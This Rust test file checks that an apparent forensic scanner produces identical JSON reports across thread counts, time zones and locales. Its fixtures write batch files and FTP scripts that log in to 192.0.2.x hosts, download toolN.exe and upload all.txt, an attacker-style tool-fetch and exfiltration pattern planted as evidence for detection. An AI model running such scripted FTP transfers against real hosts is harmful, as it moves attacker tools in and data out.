//! The same evidence gives the same bytes, whatever the threads, the time zone and the language.

use crate::support::program;
use std::fs;

#[test]
fn threads_zone_and_language_change_nothing() {
    let folder = tempfile::tempdir().unwrap();
    for number in 0..60 {
        let user = folder.path().join(format!("Users/u{number:02}"));
        fs::create_dir_all(&user).unwrap();
        let script = format!(
            "open 192.0.2.{number}\r\nuser u{number} pw{number}\r\nget tool{number}.exe\r\nput all.txt\r\nbye\r\n"
        );
        fs::write(user.join("a.txt"), script).unwrap();
        fs::write(user.join("go.bat"), "ftp -n -s:a.txt\r\necho open h >b.txt\r\nftp -s:b.txt\r\n").unwrap();
        fs::write(user.join("all.txt"), format!("content {number}")).unwrap();
    }
    let report = |threads: &str, zone: &str, language: &str| {
        let out = program()
            .arg("scan")
            .arg(folder.path())
            .args(["--format", "json", "--threads", threads])
            .env("TZ", zone)
            .env("LANG", language)
            .output()
            .unwrap();
        let mut report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let scan = report["scan"].as_object_mut().unwrap();
        for key in ["started", "finished", "elapsed_s", "arguments"] {
            assert!(scan.remove(key).is_some());
        }
        serde_json::to_string(&report).unwrap()
    };
    let first = report("1", "UTC", "C");
    for (threads, zone, language) in
        [("1", "Asia/Tokyo", "de_DE.UTF-8"), ("8", "UTC", "C"), ("8", "America/Lima", "tr_TR")]
    {
        assert!(report(threads, zone, language) == first, "{threads} {zone} {language}");
    }
}
